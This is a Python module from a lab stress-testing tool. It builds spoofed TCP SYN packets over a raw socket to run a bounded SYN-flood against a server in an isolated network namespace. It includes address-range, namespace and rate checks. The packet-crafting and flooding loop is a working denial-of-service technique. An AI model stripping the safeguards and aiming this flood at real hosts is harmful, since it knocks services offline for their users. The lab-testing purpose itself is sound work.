"""A raw-socket SYN sender for the lab's SYN-flood scenario, and nothing else.

It hand-builds IPv4 + TCP SYN packets (IP_HDRINCL) from spoofed source
addresses in a lab range such as 198.19.0.0/16. `prepare_syn_sink` makes the
server namespace send its SYN-ACKs for that range to the client namespace,
which drops them silently, so no final ACK or RST ever comes back and each
SYN leaves a half-open SYN_RECV entry that lives until tcp_synack_retries
runs out (about 63 s): the SYN queue fills.

Safety comes first, since this is the one place in tcpstress that forges
packets:

- destination and spoofed sources must be lab addresses (198.18.0.0/15, the
  RFC 2544 benchmarking range): loopback, private, public and IPv6 addresses
  are refused before a socket is opened, and so is a spoof range holding the
  destination;
- it refuses to run in the host's network namespace, and anywhere but a
  namespace a Lab created: a flood only ever starts via Lab.popen("client", ...);
- every flood is bounded by a packet count AND a duration, paced to a rate.

Run inside the client namespace of a lab:

    python -m tcpstress.lab.flood --dst 198.18.0.1 --port 8080 \\
        --spoof 198.19.0.0/16 --rate 2000 --max-packets 20000 --max-seconds 10

It prints one JSON line {"sent": .., "seconds": .., "errors": .., "first_error": ..}
at the end (also after SIGTERM or SIGINT), exits 2 with one line on refused
input and 1 when the raw socket cannot be opened.
"""

from __future__ import annotations

import argparse
import errno
import ipaddress
import json
import os
import random
import signal
import socket
import struct
import sys
import threading
import time
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

from tcpstress.lab.addresses import DEFAULT_SPOOF_CIDR, LAB_NETWORK
from tcpstress.lab.netns import NETNS_DIR


MAX_RATE = 100_000.0  # packets/s: far above what one Python process sends
MAX_PACKETS = 10_000_000
MAX_SECONDS = 600.0
# Packets sent back to back before the loop looks at the clock and the stop
# event again; keeps a stop or the time bound prompt at any rate.
MAX_BATCH = 256
# Shortest pause between batches: below this, sleeping costs more than it paces.
MIN_PAUSE_S = 0.0005

OWN_NETNS = "/proc/thread-self/ns/net"
HOST_NETNS = "/proc/1/ns/net"
# include/linux/proc_ns.h: the initial network namespace's fixed inode number.
INIT_NET_INODE = 0xEFFFFFF9
LAB_NETNS_PREFIX = "tcpstress-"

IPPROTO_TCP = 6
TCP_SYN = 0x02
TCP_MSS = 1460
TCP_WINDOW = 64240
IP_TTL = 64

_IPV4_HEADER = struct.Struct("!BBHHHBBH4s4s")  # 20 bytes, no options
_TCP_HEADER = struct.Struct("!HHIIBBHHH")  # 20 bytes before options
_MSS_OPTION = struct.Struct("!BBH")  # kind 2, length 4, value
_PSEUDO_HEADER = struct.Struct("!4s4sBBH")  # src, dst, zero, protocol, TCP length
_IP_CHECKSUM_AT = 10
_TCP_CHECKSUM_AT = 16


class FloodRefused(ValueError):
    """A flood that must not run (target, spoof range or namespace); one line."""


@dataclass
class FloodResult:
    sent: int  # packets the kernel accepted
    seconds: float
    errors: int  # sends the kernel refused (each counts against max_packets)
    first_error: str = ""  # errno name of the first refused send, for the log

    def to_json(self) -> str:
        return json.dumps(asdict(self), separators=(",", ":"))


# --------------------------------------------------------------------------
# Checks

_ALLOWED_DST = f"allowed: an IPv4 address in {LAB_NETWORK}"
_ALLOWED_SPOOF = f"allowed: a range inside {LAB_NETWORK}, e.g. {DEFAULT_SPOOF_CIDR}"


def _lab_address(text: str) -> ipaddress.IPv4Address:
    try:
        address = ipaddress.ip_address(str(text).strip())
    except ValueError:
        raise FloodRefused(f"flood destination {text!r} is not an IP address; {_ALLOWED_DST}") from None
    if address.is_loopback:
        raise FloodRefused(
            f"flood destination {address} is a loopback address; a SYN flood only "
            f"targets lab namespaces: {_ALLOWED_DST}"
        )
    if address.version != 4:
        raise FloodRefused(f"flood destination {address} is IPv6; {_ALLOWED_DST}")
    if address not in LAB_NETWORK:
        raise FloodRefused(f"flood destination {address} is outside the lab range; {_ALLOWED_DST}")
    return address


def spoof_network(spoof_cidr: str) -> ipaddress.IPv4Network:
    """The spoofed-source range as a network, or FloodRefused."""
    try:
        network = ipaddress.ip_network(str(spoof_cidr).strip(), strict=True)
    except ValueError as error:
        raise FloodRefused(f"spoof range {spoof_cidr!r} is not a CIDR ({error}); {_ALLOWED_SPOOF}") from None
    if network.version != 4 or not network.subnet_of(LAB_NETWORK):
        raise FloodRefused(f"spoof range {network} is outside the lab range; {_ALLOWED_SPOOF}")
    return network


def check_flood_target(dst: str, spoof_cidr: str) -> None:
    """Refuse (FloodRefused) anything but a lab destination and a lab spoof
    range that does not contain it."""
    address = _lab_address(dst)
    network = spoof_network(spoof_cidr)
    if address in network:
        raise FloodRefused(
            f"spoof range {network} contains the destination {address}: the server would "
            f"answer itself; use a range without it, e.g. {DEFAULT_SPOOF_CIDR}"
        )


def _namespace_id(path: str | os.PathLike) -> tuple[int, int]:
    info = os.stat(path)
    return info.st_dev, info.st_ino


def _lab_namespace_ids(lab_dir: Path) -> set[tuple[int, int]]:
    try:
        names = [name for name in os.listdir(lab_dir) if name.startswith(LAB_NETNS_PREFIX)]
    except FileNotFoundError:
        return set()
    ids = set()
    for name in names:
        try:
            ids.add(_namespace_id(lab_dir / name))
        except OSError:  # removed meanwhile
            continue
    return ids


def check_in_lab_namespace(
    own: str = OWN_NETNS, host: str = HOST_NETNS, lab_dir: str | Path = NETNS_DIR
) -> None:
    """Refuse (FloodRefused) unless the calling thread is inside a lab namespace.

    Any of three checks refuses: the namespace is PID 1's (the host's); it is
    the kernel's initial namespace, whose nsfs inode is the fixed
    PROC_NET_INIT_INO (this still works where /proc/1/ns/net is unreadable, as
    in sandboxes whose init hides it even from root); it is not one of the
    tcpstress-* namespaces a Lab pins in /var/run/netns. The calling THREAD's
    namespace is what counts: a raw socket belongs to the namespace of the
    thread that creates it, and run_in_netns moves only one thread.
    """
    try:
        here = _namespace_id(own)
    except OSError as error:
        raise FloodRefused(f"cannot read this thread's network namespace ({error.strerror}: {own})") from None
    try:
        host_is_here = _namespace_id(host) == here
    except OSError:
        host_is_here = False  # unreadable: the other two checks still hold
    if host_is_here or here[1] == INIT_NET_INODE:
        raise FloodRefused(
            "refusing to flood from the host's network namespace: run it inside a lab "
            "namespace (Lab.popen('client', flood_argv(...)))"
        )
    if here not in _lab_namespace_ids(Path(lab_dir)):
        raise FloodRefused(
            f"refusing to flood from a network namespace that is not a lab's "
            f"({lab_dir}/{LAB_NETNS_PREFIX}*): run it via Lab.popen('client', flood_argv(...))"
        )


def _is_number(value: object) -> bool:
    return isinstance(value, (int, float)) and not isinstance(value, bool)


def check_limits(rate: float, max_packets: int, max_seconds: float) -> None:
    """ValueError naming the field unless every bound is finite and in range."""
    if not _is_number(rate) or not 0 < rate <= MAX_RATE:
        raise ValueError(f"rate {rate!r}: must be packets/s above 0 and at most {MAX_RATE:g}")
    whole = isinstance(max_packets, int) and not isinstance(max_packets, bool)
    if not whole or not 1 <= max_packets <= MAX_PACKETS:
        raise ValueError(f"max_packets {max_packets!r}: must be an integer from 1 to {MAX_PACKETS}")
    if not _is_number(max_seconds) or not 0 < max_seconds <= MAX_SECONDS:
        raise ValueError(f"max_seconds {max_seconds!r}: must be seconds above 0 and at most {MAX_SECONDS:g}")


def _check_port(port: int) -> None:
    if not isinstance(port, int) or isinstance(port, bool) or not 1 <= port <= 65535:
        raise ValueError(f"port {port!r}: must be an integer from 1 to 65535")


# --------------------------------------------------------------------------
# Packets


def internet_checksum(data: bytes) -> int:
    """RFC 1071: the ones' complement of the ones' complement sum of 16-bit words."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tcp_checksum(src: bytes, dst: bytes, segment: bytes) -> int:
    """The TCP checksum of `segment` (its checksum field zero) between two
    4-byte IPv4 addresses: RFC 793's pseudo-header, then RFC 1071."""
    pseudo = _PSEUDO_HEADER.pack(src, dst, 0, IPPROTO_TCP, len(segment))
    return internet_checksum(pseudo + segment)


def _with_checksum(data: bytes, offset: int, checksum: int) -> bytes:
    return data[:offset] + struct.pack("!H", checksum) + data[offset + 2 :]


def build_syn(src: str, dst: str, sport: int, dport: int, seq: int, ip_id: int = 0) -> bytes:
    """One IPv4 packet carrying a TCP SYN with an MSS option, checksums filled.

    The kernel fills the IP checksum of an IP_HDRINCL packet itself; computing
    it anyway keeps the packet valid as bytes, which the tests check.
    """
    src_bytes = socket.inet_aton(src)
    dst_bytes = socket.inet_aton(dst)
    options = _MSS_OPTION.pack(2, 4, TCP_MSS)
    data_offset_words = (_TCP_HEADER.size + len(options)) // 4
    segment = _TCP_HEADER.pack(
        sport, dport, seq, 0, data_offset_words << 4, TCP_SYN, TCP_WINDOW, 0, 0
    ) + options
    segment = _with_checksum(segment, _TCP_CHECKSUM_AT, tcp_checksum(src_bytes, dst_bytes, segment))
    total_length = _IPV4_HEADER.size + len(segment)
    header = _IPV4_HEADER.pack(0x45, 0, total_length, ip_id, 0, IP_TTL, IPPROTO_TCP, 0, src_bytes, dst_bytes)
    header = _with_checksum(header, _IP_CHECKSUM_AT, internet_checksum(header))
    return header + segment


class SpoofedSyns:
    """Random SYNs to one destination: random source address in the spoof
    range, random source port (1024-65535), sequence number and IP id."""

    def __init__(self, dst: str, dport: int, spoof_cidr: str, rng: random.Random | None = None) -> None:
        network = spoof_network(spoof_cidr)
        self.dst = dst
        self.dport = dport
        self._rng = rng or random.Random()
        self._base = int(network.network_address)
        # Skip the network and broadcast addresses where there are such.
        if network.num_addresses > 2:
            self._first, self._last = 1, network.num_addresses - 2
        else:
            self._first, self._last = 0, network.num_addresses - 1

    def source(self) -> str:
        return str(ipaddress.IPv4Address(self._base + self._rng.randint(self._first, self._last)))

    def next_packet(self) -> bytes:
        rng = self._rng
        return build_syn(
            self.source(),
            self.dst,
            sport=rng.randint(1024, 65535),
            dport=self.dport,
            seq=rng.getrandbits(32),
            ip_id=rng.getrandbits(16),
        )


# --------------------------------------------------------------------------
# Sending


def _raw_socket() -> socket.socket:
    try:
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    except PermissionError:
        raise PermissionError(
            errno.EPERM, "raw sockets need CAP_NET_RAW (run as root inside a lab namespace)"
        ) from None
    # IPPROTO_RAW implies IP_HDRINCL; saying so keeps the intent explicit.
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return sock


def flood(
    dst: str,
    dport: int,
    spoof_cidr: str,
    rate: float,
    max_packets: int,
    max_seconds: float,
    stop: threading.Event | None = None,
) -> FloodResult:
    """Send spoofed SYNs to dst:dport at `rate` packets/s until `max_packets`
    have been tried, `max_seconds` have passed or `stop` is set.

    Every input is checked before a socket exists (FloodRefused, ValueError),
    and the calling thread must be inside a lab namespace. Packet n is due at
    n / rate seconds; the loop sends what is due, then sleeps until the next
    one, so the rate holds on average without a timer per packet.
    """
    check_flood_target(dst, spoof_cidr)
    _check_port(dport)
    check_limits(rate, max_packets, max_seconds)
    check_in_lab_namespace()
    stop = stop or threading.Event()
    packets = SpoofedSyns(dst, dport, spoof_cidr)
    address = (dst, 0)
    sent = errors = 0
    first_error = ""
    with _raw_socket() as sock:
        start = time.monotonic()
        while sent + errors < max_packets and not stop.is_set():
            elapsed = time.monotonic() - start
            if elapsed >= max_seconds:
                break
            tried = sent + errors
            due = min(max_packets, int(elapsed * rate) + 1)
            if tried >= due:
                pause = min(tried / rate - elapsed, max_seconds - elapsed)
                stop.wait(max(pause, MIN_PAUSE_S))
                continue
            for _ in range(min(due - tried, MAX_BATCH)):
                try:
                    sock.sendto(packets.next_packet(), address)
                    sent += 1
                except OSError as error:
                    errors += 1
                    first_error = first_error or errno.errorcode.get(error.errno or 0, str(error))
        seconds = time.monotonic() - start
    return FloodResult(sent=sent, seconds=round(seconds, 3), errors=errors, first_error=first_error)


# --------------------------------------------------------------------------
# Lab wiring


def prepare_syn_sink(lab: Any, spoof_cidr: str = DEFAULT_SPOOF_CIDR) -> None:
    """Make the lab's server answer SYNs from `spoof_cidr` into a void.

    The server namespace routes the range via the client, and the client
    namespace routes it into a black hole. A blackhole route in the SERVER
    namespace does not work: a locally sent packet to a blackhole route fails
    its route lookup (EINVAL), so the kernel drops each SYN before it makes a
    request sock (measured: 6,000 SYNs, 0 SYN_RECV, TcpExtListenDrops +6000).
    A packet arriving at the client for a blackhole destination is dropped
    without an ICMP error (which would make the server drop the request), and
    the server's reverse path for the range is the veth the SYNs came in on,
    so rp_filter (strict or loose) lets them through.
    """
    from tcpstress.lab.netns import with_iproute

    network = spoof_network(spoof_cidr)
    if network.overlaps(ipaddress.ip_network(str(lab.subnet))):
        raise FloodRefused(f"spoof range {network} overlaps the lab's own subnet {lab.subnet}")
    with_iproute(lab.server_ns, lambda ipr: ipr.route("add", dst=str(network), gateway=lab.client_addrs[0]))
    lab.add_blackhole_route("client", str(network))


def flood_argv(
    dst: str,
    dport: int,
    spoof_cidr: str = DEFAULT_SPOOF_CIDR,
    rate: float = 2000,
    max_packets: int = 20000,
    max_seconds: float = 10,
) -> list[str]:
    """The command that runs a flood: Lab.popen("client", flood_argv(...)).

    Checked here too, so a bad scenario fails before any namespace work.
    """
    check_flood_target(dst, spoof_cidr)
    _check_port(dport)
    check_limits(rate, max_packets, max_seconds)
    return [
        sys.executable, "-m", "tcpstress.lab.flood",
        "--dst", dst, "--port", str(dport), "--spoof", spoof_cidr, "--rate", repr(float(rate)),
        "--max-packets", str(max_packets), "--max-seconds", repr(float(max_seconds)),
    ]  # fmt: skip


def parse_flood_output(stdout: str) -> FloodResult:
    """The FloodResult a `python -m tcpstress.lab.flood` process printed."""
    lines = [line for line in stdout.splitlines() if line.strip()]
    if not lines:
        raise ValueError("the flood process printed no result line")
    try:
        return FloodResult(**json.loads(lines[-1]))
    except (ValueError, TypeError) as error:
        raise ValueError(
            f"the flood's result line is not a FloodResult: {lines[-1][:120]!r} ({error})"
        ) from None


# --------------------------------------------------------------------------
# Command line


class _OneLineParser(argparse.ArgumentParser):
    def error(self, message: str) -> None:  # type: ignore[override]
        raise ValueError(message)


def _parser() -> argparse.ArgumentParser:
    parser = _OneLineParser(
        prog="python -m tcpstress.lab.flood",
        description="A bounded spoofed-SYN flood, from inside a lab namespace only.",
    )
    parser.add_argument("--dst", required=True, help=f"destination, an IPv4 address in {LAB_NETWORK}")
    parser.add_argument("--port", type=int, required=True, help="destination port")
    parser.add_argument("--spoof", default=DEFAULT_SPOOF_CIDR, help=f"spoofed source range in {LAB_NETWORK}")
    parser.add_argument("--rate", type=float, default=2000.0, help="packets per second")
    parser.add_argument("--max-packets", type=int, default=20000, help="stop after this many packets")
    parser.add_argument("--max-seconds", type=float, default=10.0, help="stop after this many seconds")
    return parser


def stop_on_signals(stop: threading.Event) -> dict[int, Any]:
    """SIGTERM and SIGINT set `stop` (a lab that closes sends SIGTERM: the flood stops sending
    and still reports its count); returns the handlers they replaced.

    The handler sets the event from a thread of its own: a handler runs in the main thread
    between two bytecodes, possibly while that thread holds the event's lock inside
    Event.wait(), and Event.set() there would wait for that lock forever (a clean-clone CI
    run saw a flood ignore SIGTERM for 30 s)."""
    def handler(signum: int, frame: object) -> None:
        threading.Thread(target=stop.set, name="flood-stop", daemon=True).start()

    return {sig: signal.signal(sig, handler) for sig in (signal.SIGTERM, signal.SIGINT)}


def main(argv: list[str] | None = None) -> int:
    try:
        args = _parser().parse_args(argv)
    except ValueError as error:
        print(f"flood: error: {error}", file=sys.stderr)
        return 2
    stop = threading.Event()
    previous = stop_on_signals(stop)
    try:
        result = flood(args.dst, args.port, args.spoof, args.rate, args.max_packets, args.max_seconds, stop)
    except ValueError as error:  # FloodRefused included
        print(f"flood: error: {error}", file=sys.stderr)
        return 2
    except OSError as error:
        print(f"flood: error: {error.strerror or error}", file=sys.stderr)
        return 1
    finally:
        for sig, handler in previous.items():
            signal.signal(sig, signal.SIG_DFL if handler is None else handler)
    print(result.to_json(), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
